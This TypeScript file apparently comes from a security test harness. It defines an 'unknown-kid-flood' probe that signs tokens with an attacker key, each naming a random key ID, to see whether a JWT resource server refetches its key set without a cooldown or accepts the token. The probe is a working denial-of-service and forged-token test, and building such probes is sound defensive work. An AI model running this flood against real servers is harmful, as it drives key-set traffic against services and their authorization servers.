/**
 * unknown-kid-flood — tokens signed by the attacker, each naming a fresh
 * random kid. An RS that refetches the key set on every unknown kid without
 * a cooldown lets anyone drive its JWKS traffic (and the AS's); the probe
 * reports the refetches the flood caused (RS stats) beside the verdict
 * (RFC 8725 §3.10; jose's cooldownDuration).
 */
import { randomBytes } from 'node:crypto'
import { SignJWT } from 'jose'
import { claimsFor } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

export const unknownKidFlood = defineAttack({
  id: 'unknown-kid-flood',
  summary: 'refetches the key set for every unknown kid (or accepts one)',
  refs: ['RFC 8725 §3.10', 'RFC 7517 §4.5'],
  async build(kit) {
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const requests = []
    for (let i = 0; i < kit.floodCount; i++) {
      const kid = `gameday-${randomBytes(6).toString('hex')}`
      requests.push({
        variant: `random kid ${i + 1}/${kit.floodCount}`,
        token: await new SignJWT(claims)
          .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid })
          .sign(kit.attacker.privateKey),
      })
    }
    return { applicable: true, countsRefetches: true, requests }
  },
})
